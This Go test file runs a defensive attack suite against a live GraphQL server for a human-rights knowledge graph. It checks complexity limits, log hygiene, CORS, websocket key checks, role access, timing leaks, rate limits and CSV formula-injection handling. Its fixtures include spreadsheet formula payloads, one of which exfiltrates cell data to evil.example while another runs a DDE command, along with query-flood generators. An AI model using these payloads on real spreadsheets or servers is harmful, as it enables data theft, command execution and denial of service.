package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	coderws "github.com/coder/websocket"
	"github.com/coder/websocket/wsjson"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"marrakechgraph/cost/costtest"
	"marrakechgraph/embedded"
	"marrakechgraph/kg"
	"marrakechgraph/seed"
)

// The attack suite replays, against a live server process over real HTTP,
// every request of the public-endpoint attack (issue 9) and the probes that
// held. Each request must be answered within answerWithin, every expected
// error must carry its code (never INTERNAL), the server must still answer
// /healthz after each probe, and its resident memory must grow by less than
// rssGrowthLimit over the whole suite. Each probe logs its slowest answer
// and the server's RSS after it (go test -v -run TestAttackSuite).

const (
	answerWithin   = time.Second
	rssGrowthLimit = 100 << 20
	// rssKill is the memory past which the suite kills the server.
	rssKill = 2 << 30
	// attackSecret stands for what a request may carry (a threat report's
	// summary); it must never reach the server's logs.
	attackSecret = "ATTACK-SUITE-SECRET-5d2e"
	// attackFormula is the knowledge graph text, written by an editor before
	// imports refused formulas, that a spreadsheet would run.
	attackFormula = `=HYPERLINK("https://evil.example/?"&A1,"open")`
)

// reply is one answer, with how long it took.
type reply struct {
	status int
	header http.Header
	body   []byte
	took   time.Duration
	errors []struct {
		Message    string
		Extensions map[string]any
	}
}

func (r reply) codes() []string {
	var codes []string
	for _, e := range r.errors {
		code, _ := e.Extensions["code"].(string)
		codes = append(codes, code)
	}
	return codes
}

// figure is what one probe measured.
type figure struct {
	probe   string
	slowest time.Duration
	rss     int64 // after the probe
	peak    int64 // during the probe
	codes   []string
}

type attacker struct {
	bin, dataDir string
	srv          *server
	// rssKilled is set when the watchdog killed the server for its memory;
	// peak is the most memory it saw the server hold during a probe.
	rssKilled atomic.Bool
	peak      atomic.Int64
	client    *http.Client
	tokens    map[string]string
	figures   []figure
	// of the running probe
	mu      sync.Mutex
	slowest time.Duration
	codes   []string
}

// processRSS returns the resident memory of a process, in bytes.
func processRSS(pid int) (int64, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, fmt.Errorf("read the status of process %d: %w", pid, err)
	}
	for line := range strings.SplitSeq(string(b), "\n") {
		if rest, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")), 10, 64)
			if err != nil {
				return 0, fmt.Errorf("process %d: %q: %w", pid, line, err)
			}
			return kb << 10, nil
		}
	}
	return 0, fmt.Errorf("no VmRSS in the status of process %d", pid)
}

// rss returns the resident memory of the server process, in bytes.
func (a *attacker) rss(t *testing.T) int64 {
	t.Helper()
	rss, err := processRSS(a.srv.cmd.Process.Pid)
	require.NoError(t, err)
	return rss
}

// do makes one request and checks it was answered within answerWithin,
// without a server error; answers of /query must carry nosniff and be
// JSON. It may run on any goroutine.
func (a *attacker) do(t *testing.T, req *http.Request) (reply, error) {
	t.Helper()
	start := time.Now()
	res, err := a.client.Do(req)
	if err != nil {
		a.mu.Lock()
		a.slowest = max(a.slowest, time.Since(start))
		a.mu.Unlock()
		return reply{}, fmt.Errorf("%s %s: %w", req.Method, req.URL.Path, err)
	}
	body, err := io.ReadAll(res.Body)
	res.Body.Close()
	if err != nil {
		return reply{}, fmt.Errorf("read the answer to %s %s: %w", req.Method, req.URL.Path, err)
	}
	r := reply{status: res.StatusCode, header: res.Header, body: body, took: time.Since(start)}
	assert.Less(t, r.took, answerWithin, "%s %s answered in %v", req.Method, req.URL.Path, r.took)
	assert.Less(t, r.status, 500, "%s %s: %s: %.300s", req.Method, req.URL.Path, res.Status, body)
	if strings.HasPrefix(req.URL.Path, "/query") {
		assert.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"), "/query answers carry nosniff")
		if strings.HasPrefix(res.Header.Get("Content-Type"), "application/") {
			var parsed struct {
				Errors []struct {
					Message    string
					Extensions map[string]any
				}
			}
			if err := json.Unmarshal(body, &parsed); err != nil {
				return r, fmt.Errorf("%s %s: not JSON: %w: %.300s", req.Method, req.URL.Path, err, body)
			}
			r.errors = parsed.Errors
		}
	}
	a.mu.Lock()
	a.slowest = max(a.slowest, r.took)
	a.codes = append(a.codes, r.codes()...)
	a.mu.Unlock()
	return r, nil
}

// send is do on the test's goroutine, which stops the test on an error.
func (a *attacker) send(t *testing.T, req *http.Request) reply {
	t.Helper()
	r, err := a.do(t, req)
	require.NoError(t, err)
	return r
}

func (a *attacker) request(t *testing.T, method, path, contentType, token string, body []byte) reply {
	t.Helper()
	req, err := http.NewRequest(method, a.srv.base+path, bytes.NewReader(body))
	require.NoError(t, err)
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	return a.send(t, req)
}

// gql posts a GraphQL operation.
func (a *attacker) gql(t *testing.T, token, query string, vars map[string]any) reply {
	t.Helper()
	body, err := json.Marshal(map[string]any{"query": query, "variables": vars})
	require.NoError(t, err)
	return a.request(t, http.MethodPost, "/query", "application/json", token, body)
}

// refused checks that an answer is an error whose every code is one of
// codes.
func refused(t *testing.T, r reply, codes ...string) {
	t.Helper()
	require.NotEmpty(t, r.errors, "an error is expected: %d %.300s", r.status, r.body)
	for _, e := range r.errors {
		code, _ := e.Extensions["code"].(string)
		assert.Contains(t, codes, code, "code of %q", e.Message)
		assert.LessOrEqual(t, len(e.Message), 600, "a short message")
		assert.NotContains(t, e.Message, attackSecret, "the message echoes no request")
	}
}

// served checks that an answer has data and no error.
func served(t *testing.T, r reply) map[string]json.RawMessage {
	t.Helper()
	require.Empty(t, r.errors, "%.300s", r.body)
	var out struct{ Data map[string]json.RawMessage }
	require.NoError(t, json.Unmarshal(r.body, &out))
	require.NotNil(t, out.Data, "%.300s", r.body)
	return out.Data
}

// probe runs one probe, then checks the server still answers and records
// its figures.
func (a *attacker) probe(t *testing.T, name string, f func(t *testing.T)) {
	t.Helper()
	a.slowest, a.codes = 0, nil
	a.peak.Store(0)
	t.Run(name, f)
	peak := a.peak.Load()
	req, err := http.NewRequest(http.MethodGet, a.srv.base+"/healthz", nil)
	require.NoError(t, err)
	health, err := a.do(t, req)
	if err != nil || health.status != http.StatusOK || a.rssKilled.Load() {
		// Go on with a fresh process, so that one run reports every probe.
		t.Errorf("the server does not answer after %s (killed for its memory: %v): %v", name, a.rssKilled.Load(), err)
		a.start(t)
	}
	codes := slices.Clone(a.codes)
	slices.Sort(codes)
	fig := figure{probe: name, slowest: a.slowest, rss: a.rss(t), codes: slices.Compact(codes)}
	fig.peak = max(peak, fig.rss)
	a.figures = append(a.figures, fig)
	t.Logf("attack probe %-34s slowest %7.1f ms  server RSS %6.1f MB (peak %6.1f MB)  codes %v",
		name, float64(fig.slowest.Microseconds())/1000, float64(fig.rss)/(1<<20), float64(fig.peak)/(1<<20), fig.codes)
}

// start (re)starts the server on the suite's data folder, with the rate
// limits off, and watches its memory: past rssKill the watchdog kills it,
// so that a regression cannot exhaust the machine.
func (a *attacker) start(t *testing.T, env ...string) {
	t.Helper()
	if a.srv != nil {
		select {
		case <-a.srv.exited:
		default:
			require.NoError(t, a.srv.cmd.Process.Kill())
			<-a.srv.exited
		}
	}
	a.rssKilled.Store(false)
	srv := startServer(t, a.bin, append([]string{"DATA_DIR=" + a.dataDir}, env...)...)
	a.srv = srv
	go func() {
		tick := time.NewTicker(50 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-srv.exited:
				return
			case <-tick.C:
			}
			rss, err := processRSS(srv.cmd.Process.Pid)
			if err != nil {
				continue
			}
			for {
				seen := a.peak.Load()
				if rss <= seen || a.peak.CompareAndSwap(seen, rss) {
					break
				}
			}
			if rss > rssKill {
				a.rssKilled.Store(true)
				_ = srv.cmd.Process.Kill()
				return
			}
		}
	}()
	srv.waitReady(t, 30*time.Second)
}

// plantFormula writes the seed and a knowledge graph entity whose text a
// spreadsheet would run into a data folder, as an import of the past could.
func plantFormula(t *testing.T, dataDir string) {
	t.Helper()
	s, err := embedded.Open(dataDir)
	require.NoError(t, err)
	defer s.Close()
	ctx := context.Background()
	_, err = seed.Apply(ctx, s)
	require.NoError(t, err)
	_, err = s.Apply(ctx, kg.ChangeSet{Actor: "editor", Reason: "attack suite", PutNodes: []kg.Node{{
		ID: "risk-group:attack-formula", Kind: kg.KindRiskGroup, Name: attackFormula, Acronym: "@SUM(A1)", Description: "-2+3",
		Citations: []kg.Citation{{Document: "+cmd|' /C calc'!A0", Section: "s", Quote: "q"}},
	}}})
	require.NoError(t, err)
}

const reportThreat = `mutation($s: String!) { reportThreat(input: {nhri: "nhri:gt", threats: ["threat-type:intimidation"],
	targets: [MEMBERS_OR_STAFF], reprisalForUNCooperation: false, consentToShare: true, summary: $s}) { id } }`

// TestAttackSuite replays the attack on a live server; see the comment at
// the top of this file.
func TestAttackSuite(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the server and attacks it")
	}
	// ATTACK_SERVER_BIN replays the suite against another build of the
	// server, such as one of an older commit, to measure what changed.
	bin := os.Getenv("ATTACK_SERVER_BIN")
	if bin == "" {
		bin = buildServer(t)
	}
	a := &attacker{bin: bin, dataDir: t.TempDir(), client: &http.Client{Timeout: 2 * answerWithin}, tokens: map[string]string{"public": ""}}
	plantFormula(t, a.dataDir)
	for _, role := range []string{"analyst", "editor", "headoffice", "admin"} {
		a.tokens[role] = createKey(t, bin, []string{"DATA_DIR=" + a.dataDir}, role)
	}
	a.start(t)
	start := a.rss(t)
	t.Logf("attack suite: server RSS at start %.1f MB", float64(start)/(1<<20))

	// Finding 1: nested relationships multiply the answer by each level.
	for _, depth := range []int{10, 12, 50, 200, 1000} {
		a.probe(t, fmt.Sprintf("1 nested relationships depth %d", depth), func(t *testing.T) {
			r := a.gql(t, "", costtest.NestedRelationships(depth), nil)
			// The parser stops the deepest documents before they are measured.
			refused(t, r, "COMPLEXITY_LIMIT_EXCEEDED", "GRAPHQL_PARSE_FAILED")
		})
	}
	// Finding 2: fragments that double at each level.
	for _, levels := range []int{22, 30} {
		a.probe(t, fmt.Sprintf("2 doubling fragments %d levels", levels), func(t *testing.T) {
			r := a.gql(t, "", costtest.DoublingFragments(levels), nil)
			refused(t, r, "COMPLEXITY_LIMIT_EXCEEDED")
		})
	}
	// Finding 3: 1,000 aliases of a page of 500.
	a.probe(t, "3 alias bomb 1000 x search(first:500)", func(t *testing.T) {
		r := a.gql(t, "", costtest.AliasedSearches(1000), nil)
		refused(t, r, "COMPLEXITY_LIMIT_EXCEEDED")
	})
	// Finding 4: bodies never reach the logs, malformed or not.
	a.probe(t, "4 malformed 1 MB body with a secret", func(t *testing.T) {
		body := `{"query": "{ objectives { id } }", "variables": {"s": "` + attackSecret + strings.Repeat(" threat report", 70_000)
		require.Less(t, len(body), 1<<20, "under the body limit")
		r := a.request(t, http.MethodPost, "/query", "application/json", "", []byte(body))
		assert.Equal(t, http.StatusBadRequest, r.status)
		refused(t, r, "BAD_USER_INPUT")
		r = a.gql(t, a.tokens["headoffice"], reportThreat, map[string]any{"s": attackSecret})
		served(t, r)
		r = a.gql(t, "", `query($s: String!) { search(text: $s, first: 1) { id } }`, map[string]any{"s": attackSecret})
		served(t, r)
		assert.NotContains(t, a.srv.output.String(), attackSecret, "no request body in the logs")
	})
	// Finding 5: client mistakes are coded as such, never INTERNAL.
	a.probe(t, "5 client mistakes", func(t *testing.T) {
		cases := []struct {
			name, method, contentType, body, query, token string
			status                                        int
		}{
			{"malformed JSON", "POST", "application/json", `{"query": "` + attackSecret, "", "", 400},
			{"empty body", "POST", "application/json", ``, "", "", 400},
			{"query not a string", "POST", "application/json", `{"query":5}`, "", "", 400},
			{"variables not an object", "POST", "application/json", `{"query":"{ objectives { id } }","variables":"x"}`, "", "", 400},
			{"batch array", "POST", "application/json", `[{"query":"{ objectives { id } }"}]`, "", "", 400},
			{"persisted query hash mismatch", "POST", "application/json", `{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"abc"}},"query":"{ objectives { id } }"}`, "", "", 200},
			{"wrong-case enum in a list variable", "POST", "application/json", `{"query":"query($c: [MechanismCategory!]) { mechanisms(filter: {category: $c}) { totalCount } }","variables":{"c":["un"]}}`, "", "", 200},
			{"wrong-case enum in an input object", "POST", "application/json", `{"query":"mutation($t: [ThreatTarget!]!) { reportThreat(input: {nhri: \"nhri:gt\", threats: [\"threat-type:intimidation\"], targets: $t, reprisalForUNCooperation: false, consentToShare: true, summary: \"s\"}) { id } }","variables":{"t":["institution"]}}`, "", a.tokens["headoffice"], 200},
			{"wrong content type", "POST", "text/plain", `{"query":"{ objectives { id } }"}`, "", "", 415},
			{"unsupported method", "PUT", "application/json", `{"query":"{ objectives { id } }"}`, "", "", 405},
			{"GET without a query", "GET", "", "", "", "", 400},
			{"mutation over GET", "GET", "", "", "query=mutation%20%7B%20__typename%20%7D", "", 406},
			{"undecodable GET variables", "GET", "", "", "query=%7B__typename%7D&variables=%7Bbad", "", 400},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				r := a.request(t, c.method, "/query?"+c.query, c.contentType, c.token, []byte(c.body))
				assert.Equal(t, c.status, r.status)
				refused(t, r, "BAD_USER_INPUT", "GRAPHQL_VALIDATION_FAILED")
			})
		}
		// Clients that leave before their answer are not bugs.
		for range 20 {
			ctx, cancel := context.WithTimeout(context.Background(), time.Millisecond)
			req, err := http.NewRequestWithContext(ctx, http.MethodPost, a.srv.base+"/query",
				strings.NewReader(`{"query":"{ objectives { id actions { id partners { id } relationships { node { id } } } } }"}`))
			require.NoError(t, err)
			req.Header.Set("Content-Type", "application/json")
			if res, err := a.client.Do(req); err == nil {
				res.Body.Close()
			}
			cancel()
		}
	})
	// Finding 6: CORS closed by default.
	a.probe(t, "6 CORS preflight from another origin", func(t *testing.T) {
		req, err := http.NewRequest(http.MethodOptions, a.srv.base+"/query", nil)
		require.NoError(t, err)
		req.Header.Set("Origin", "https://attacker.example")
		req.Header.Set("Access-Control-Request-Method", "POST")
		req.Header.Set("Access-Control-Request-Headers", "authorization, content-type")
		r := a.send(t, req)
		assert.Empty(t, r.header.Values("Access-Control-Allow-Origin"), "no CORS grant to another origin")
		req, err = http.NewRequest(http.MethodPost, a.srv.base+"/query", strings.NewReader(`{"query":"{ threatIncidents(first: 1) { totalCount } }"}`))
		require.NoError(t, err)
		req.Header.Set("Origin", "https://attacker.example")
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+a.tokens["headoffice"])
		r = a.send(t, req)
		assert.Empty(t, r.header.Values("Access-Control-Allow-Origin"), "no CORS grant to another origin")
	})
	// Finding 7: subscriptions close with 4401 for a wrong or revoked key.
	a.probe(t, "7 websocket wrong and revoked key", func(t *testing.T) {
		created := served(t, a.gql(t, a.tokens["admin"], `mutation { createAPIKey(name: "attack", role: HEADOFFICE) { key { id } token } }`, nil))
		var key struct {
			Key   struct{ ID string }
			Token string
		}
		require.NoError(t, json.Unmarshal(created["createAPIKey"], &key))
		served(t, a.gql(t, a.tokens["admin"], `mutation($id: ID!) { revokeAPIKey(id: $id) { id } }`, map[string]any{"id": key.Key.ID}))
		for name, authorization := range map[string]string{
			"wrong key":   "Bearer mgk_" + strings.Repeat("0", 40),
			"revoked key": "Bearer " + key.Token,
			"not bearer":  attackSecret,
		} {
			t.Run(name, func(t *testing.T) {
				code, took := a.wsClose(t, authorization)
				assert.Equal(t, coderws.StatusCode(4401), code)
				assert.Less(t, took, answerWithin)
				a.slowest = max(a.slowest, took)
			})
		}
	})
	// Finding 8: formulas neither enter by import nor leave by export.
	a.probe(t, "8 CSV formula import and export", func(t *testing.T) {
		chart := "region,country,institution,acronym,status,year,network\n" +
			"Americas,GT,\"=cmd|' /C calc'!A0\",PDH,A,2024,RINDHCA\n" +
			"Americas,GT,Procuraduría de los Derechos Humanos,\"=HYPERLINK(\"\"https://evil.example\"\")\",A,2024,RINDHCA\n" +
			"Americas,GT,+1,@SUM(A1),A,2024,RINDHCA\n" +
			"Americas,GT,-2+3,PDH,A,2024,RINDHCA\n"
		const importNHRIs = `mutation($csv: String!, $source: String!) { importNHRIs(csv: $csv, source: $source, asOf: "2026-01-01") { applied errors { row column message } } }`
		data := served(t, a.gql(t, a.tokens["editor"], importNHRIs, map[string]any{"csv": chart, "source": "GANHRI chart"}))
		var rep struct {
			Applied bool
			Errors  []struct {
				Row     int
				Column  string
				Message string
			}
		}
		require.NoError(t, json.Unmarshal(data["importNHRIs"], &rep))
		assert.False(t, rep.Applied, "an import with formulas is refused")
		rows := map[int]bool{}
		for _, e := range rep.Errors {
			if strings.Contains(e.Message, "formula") {
				rows[e.Row] = true
			}
		}
		assert.Len(t, rows, 4, "every row with a formula is reported: %+v", rep.Errors)
		r := a.gql(t, a.tokens["editor"], importNHRIs, map[string]any{"csv": "region,country,institution,status\n", "source": "=1+1"})
		refused(t, r, "BAD_USER_INPUT")

		r = a.request(t, http.MethodGet, "/export/nodes.csv", "", "", nil)
		require.Equal(t, http.StatusOK, r.status)
		records, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		require.NoError(t, err)
		found := false
		for _, row := range records {
			for _, cell := range row {
				assert.False(t, kg.LooksLikeFormula(cell), "cell %q of %s", cell, row[0])
			}
			if row[0] == "risk-group:attack-formula" {
				found = true
				assert.Contains(t, row, "'"+attackFormula, "the text is kept, behind an apostrophe")
			}
		}
		assert.True(t, found, "the entity is exported")
	})
	// Finding 10: nosniff (checked on every /query answer), no echo of
	// large input, a clear message for two unnamed operations.
	a.probe(t, "10 huge field name, two unnamed operations", func(t *testing.T) {
		r := a.request(t, http.MethodPost, "/query", "application/json", "", []byte(`{"query":"{ `+strings.Repeat("x", 900_000)+` }"}`))
		refused(t, r, "GRAPHQL_PARSE_FAILED")
		assert.Less(t, len(r.body), 4000, "the answer echoes no large input")
		r = a.gql(t, "", "{ __typename } { __typename }", nil)
		refused(t, r, "GRAPHQL_VALIDATION_FAILED")
		for _, e := range r.errors {
			assert.NotContains(t, e.Message, "operation  not found")
		}
	})

	// What held, as regression tests.
	a.probe(t, "held: roles x operations", func(t *testing.T) {
		ops := []struct {
			name, query string
			allowed     []string
		}{
			{"graph", `{ node(id: "nhri:gt") { id } }`, []string{"public", "analyst", "editor", "headoffice", "admin"}},
			{"activation plan", `{ activationPlan(situation: {country: "GT", threats: ["threat-type:budget-cuts"], targets: [INSTITUTION]}) { country { name } } }`, []string{"public", "analyst", "editor", "headoffice", "admin"}},
			{"history", `{ history(id: "nhri:gt") { seq } }`, []string{"analyst", "editor", "headoffice", "admin"}},
			{"import", `mutation { importNHRIs(csv: "region,country,institution,status\n", source: "=x", asOf: "2026-01-01") { applied } }`, []string{"editor", "admin"}},
			{"threat log", `{ threatIncidents(first: 1) { totalCount } }`, []string{"headoffice", "admin"}},
			{"threat stats", `{ threatStats(groupBy: [REGION]) { count } }`, []string{"headoffice", "admin"}},
			{"report threat", `mutation { reportThreat(input: {nhri: "nhri:none", threats: ["threat-type:intimidation"], targets: [INSTITUTION], reprisalForUNCooperation: false, consentToShare: true, summary: "s"}) { id } }`, []string{"headoffice", "admin"}},
			{"keys", `{ apiKeys { id } }`, []string{"admin"}},
		}
		for _, op := range ops {
			for _, role := range []string{"public", "analyst", "editor", "headoffice", "admin"} {
				r := a.gql(t, a.tokens[role], op.query, nil)
				if slices.Contains(op.allowed, role) {
					for _, code := range r.codes() {
						assert.NotContains(t, []string{"UNAUTHENTICATED", "FORBIDDEN", "INTERNAL", ""}, code, "%s as %s: %.300s", op.name, role, r.body)
					}
					continue
				}
				want := "FORBIDDEN"
				if role == "public" {
					want = "UNAUTHENTICATED"
				}
				require.NotEmpty(t, r.errors, "%s as %s is refused", op.name, role)
				assert.Equal(t, want, r.errors[0].Extensions["code"], "%s as %s", op.name, role)
			}
		}
	})
	var incident string
	a.probe(t, "held: no incident leaks, equal timing", func(t *testing.T) {
		const summary = "Quuxbridge staff detained " + attackSecret
		data := served(t, a.gql(t, a.tokens["headoffice"], reportThreat, map[string]any{"s": summary}))
		var rep struct{ ID string }
		require.NoError(t, json.Unmarshal(data["reportThreat"], &rep))
		incident = rep.ID
		const fake = "incident:000000000000"
		for _, role := range []string{"public", "analyst", "editor"} {
			tok := a.tokens[role]
			for _, id := range []string{incident, fake} {
				data := served(t, a.gql(t, tok, `query($id: ID!) { node(id: $id) { id } }`, map[string]any{"id": id}))
				assert.Equal(t, "null", string(data["node"]), "%s reads node(%s)", role, id)
			}
			data := served(t, a.gql(t, tok, `{ search(text: "Quuxbridge", first: 50) { id } }`, nil))
			assert.Equal(t, "[]", string(data["search"]))
			data = served(t, a.gql(t, tok, `{ node(id: "nhri:gt") { ... on NHRI { relationships { type node { id } } } } }`, nil))
			assert.NotContains(t, string(data["node"]), "incident:")
			data = served(t, a.gql(t, tok, `{ graphStats { nodes { key count } relationships { key count } } }`, nil))
			assert.NotContains(t, string(data["graphStats"]), "ThreatIncident")
			real := a.gql(t, tok, `mutation($id: ID!) { updateThreat(input: {id: $id, status: RESOLVED}) { id } }`, map[string]any{"id": incident})
			made := a.gql(t, tok, `mutation($id: ID!) { updateThreat(input: {id: $id, status: RESOLVED}) { id } }`, map[string]any{"id": fake})
			require.NotEmpty(t, real.errors)
			require.NotEmpty(t, made.errors)
			assert.Equal(t, made.errors[0].Message, real.errors[0].Message, "refusals do not depend on whether the incident exists")
			assert.NotContains(t, string(real.body), "Quuxbridge")
		}
		// A real and a made-up ID take the same time to refuse.
		var realTimes, fakeTimes []time.Duration
		for range 15 {
			for id, times := range map[string]*[]time.Duration{incident: &realTimes, fake: &fakeTimes} {
				r := a.gql(t, a.tokens["analyst"], `query($id: ID!) { node(id: $id) { id } }`, map[string]any{"id": id})
				*times = append(*times, r.took)
			}
		}
		mr, mf := median(realTimes), median(fakeTimes)
		t.Logf("node(id) as analyst: median %v for a real incident, %v for a made-up one", mr, mf)
		assert.Less(t, (mr - mf).Abs(), 20*time.Millisecond, "equal timing")
	})
	var acked []string
	a.probe(t, "held: 8 concurrent writers", func(t *testing.T) {
		var mu sync.Mutex
		var wg sync.WaitGroup
		stop := time.Now().Add(2 * time.Second)
		for w := range 8 {
			wg.Go(func() {
				for i := 0; time.Now().Before(stop); i++ {
					body, _ := json.Marshal(map[string]any{"query": reportThreat, "variables": map[string]any{"s": fmt.Sprintf("writer %d report %d", w, i)}})
					req, _ := http.NewRequest(http.MethodPost, a.srv.base+"/query", bytes.NewReader(body))
					req.Header.Set("Content-Type", "application/json")
					req.Header.Set("Authorization", "Bearer "+a.tokens["headoffice"])
					r, err := a.do(t, req)
					var out struct {
						Data struct{ ReportThreat struct{ ID string } }
					}
					if assert.NoError(t, err) && assert.Empty(t, r.errors, "%.300s", r.body) && assert.NoError(t, json.Unmarshal(r.body, &out)) {
						mu.Lock()
						acked = append(acked, out.Data.ReportThreat.ID)
						mu.Unlock()
					}
				}
			})
		}
		wg.Wait()
		stored := a.incidents(t)
		for _, id := range acked {
			assert.True(t, stored[id], "acknowledged report %s is stored", id)
		}
		t.Logf("%d reports acknowledged by 8 writers in 2 s, all stored", len(acked))
	})
	a.probe(t, "held: body, depth, page, cursor, CSV limits", func(t *testing.T) {
		r := a.request(t, http.MethodPost, "/query", "application/json", "", []byte(`{"query":"{ objectives { id } }","x":"`+strings.Repeat("a", 2<<20)+`"}`))
		assert.Equal(t, http.StatusRequestEntityTooLarge, r.status)
		refused(t, r, "BAD_USER_INPUT")
		r = a.gql(t, "", strings.Repeat("{ node(id: \"x\") ", 5000)+strings.Repeat("}", 5000), nil)
		refused(t, r, "GRAPHQL_PARSE_FAILED", "GRAPHQL_VALIDATION_FAILED", "COMPLEXITY_LIMIT_EXCEEDED")
		for _, first := range []int{-1, 0, 501, 1 << 30} {
			r = a.gql(t, "", `query($n: Int) { mechanisms(first: $n) { totalCount } }`, map[string]any{"n": first})
			refused(t, r, "BAD_USER_INPUT")
		}
		for _, cursor := range []string{"garbage", "bWVjaGFuaXNt", strings.Repeat("A", 100_000)} {
			r = a.gql(t, "", `query($c: String) { mechanisms(first: 5, after: $c) { totalCount } }`, map[string]any{"c": cursor})
			refused(t, r, "BAD_USER_INPUT")
		}
		big := "region,country,institution,status\n" + strings.Repeat("Americas,GT,Procuraduría,A\n", 2001)
		r = a.gql(t, a.tokens["editor"], `mutation($csv: String!) { importNHRIs(csv: $csv, source: "chart", asOf: "2026-01-01") { applied } }`, map[string]any{"csv": big})
		refused(t, r, "BAD_USER_INPUT")
	})

	end := a.rss(t)
	t.Logf("attack suite: server RSS %.1f MB at start, %.1f MB at end, growth %.1f MB", float64(start)/(1<<20), float64(end)/(1<<20), float64(end-start)/(1<<20))
	assert.Less(t, end-start, int64(rssGrowthLimit), "RSS growth over the suite")
	out := a.srv.output.String()
	assert.NotContains(t, out, attackSecret, "no request content in the logs")
	assert.NotContains(t, out, `"level":"ERROR"`, "no attack is logged as an internal error")

	// Held: a SIGKILL loses no acknowledged write.
	a.start(t)
	a.probe(t, "held: SIGKILL loses nothing", func(t *testing.T) {
		stored := a.incidents(t)
		lost := 0
		for _, id := range append(acked, incident) {
			if !stored[id] {
				lost++
			}
		}
		assert.Zero(t, lost, "acknowledged reports lost by SIGKILL")
	})

	a.rateLimitProbe(t)
	logFigures(t, a.figures)
}

// wsClose opens a subscription connection with the Authorization given and
// returns the close code it meets and how long that took.
func (a *attacker) wsClose(t *testing.T, authorization string) (coderws.StatusCode, time.Duration) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	start := time.Now()
	c, _, err := coderws.Dial(ctx, "ws"+strings.TrimPrefix(a.srv.base, "http")+"/query",
		&coderws.DialOptions{Subprotocols: []string{"graphql-transport-ws"}})
	require.NoError(t, err)
	defer c.CloseNow()
	require.NoError(t, wsjson.Write(ctx, c, map[string]any{"type": "connection_init", "payload": map[string]any{"Authorization": authorization}}))
	for {
		var msg map[string]any
		err := wsjson.Read(ctx, c, &msg)
		if err == nil {
			assert.NotEqual(t, "connection_ack", msg["type"], "a refused key is not acknowledged")
			continue
		}
		var ce coderws.CloseError
		require.True(t, errors.As(err, &ce), "closed with a close frame: %v", err)
		return ce.Code, time.Since(start)
	}
}

// incidents returns the IDs of every stored incident.
func (a *attacker) incidents(t *testing.T) map[string]bool {
	t.Helper()
	stored := map[string]bool{}
	var after any
	for {
		data := served(t, a.gql(t, a.tokens["headoffice"],
			`query($after: String) { threatIncidents(first: 500, after: $after) { edges { node { id } } pageInfo { hasNextPage endCursor } } }`,
			map[string]any{"after": after}))
		var conn struct {
			Edges []struct {
				Node struct{ ID string }
			}
			PageInfo struct {
				HasNextPage bool
				EndCursor   string
			}
		}
		require.NoError(t, json.Unmarshal(data["threatIncidents"], &conn))
		for _, e := range conn.Edges {
			stored[e.Node.ID] = true
		}
		if !conn.PageInfo.HasNextPage {
			return stored
		}
		after = conn.PageInfo.EndCursor
	}
}

// rateLimitProbe starts a server with the default rate limits and floods
// it: past the burst, requests get 429 with Retry-After and RATE_LIMITED,
// while a keyed client still has budget.
func (a *attacker) rateLimitProbe(t *testing.T) {
	t.Helper()
	a.dataDir = t.TempDir()
	admin := createKey(t, a.bin, []string{"DATA_DIR=" + a.dataDir}, "admin")
	a.start(t, "RATE_LIMIT_PUBLIC=2", "RATE_LIMIT_KEYED=100")
	a.probe(t, "rate limits", func(t *testing.T) {
		limited := 0
		for range 60 {
			r := a.gql(t, "", `{ objectives { id } }`, nil)
			if r.status == http.StatusTooManyRequests {
				limited++
				refused(t, r, "RATE_LIMITED")
				s, err := strconv.Atoi(r.header.Get("Retry-After"))
				assert.NoError(t, err, "Retry-After in seconds")
				assert.Positive(t, s)
			}
		}
		assert.Positive(t, limited, "a flood past the burst is refused")
		served(t, a.gql(t, admin, `{ objectives { id } }`, nil))
		r := a.request(t, http.MethodGet, "/metrics", "", admin, nil)
		require.Equal(t, http.StatusOK, r.status)
		assert.Contains(t, string(r.body), "marrakechgraph_rate_limited_total")
		t.Logf("%d of 60 public requests refused with 429", limited)
	})
}

func median(d []time.Duration) time.Duration {
	s := slices.Clone(d)
	slices.Sort(s)
	return s[len(s)/2]
}

func logFigures(t *testing.T, figs []figure) {
	t.Helper()
	var b strings.Builder
	b.WriteString("attack suite figures:\n| probe | slowest answer | server RSS after (peak) | codes |\n|---|---:|---:|---|\n")
	for _, f := range figs {
		fmt.Fprintf(&b, "| %s | %.1f ms | %.1f MB (%.1f MB) | %s |\n", f.probe, float64(f.slowest.Microseconds())/1000, float64(f.rss)/(1<<20), float64(f.peak)/(1<<20), strings.Join(f.codes, ", "))
	}
	t.Log(b.String())
}
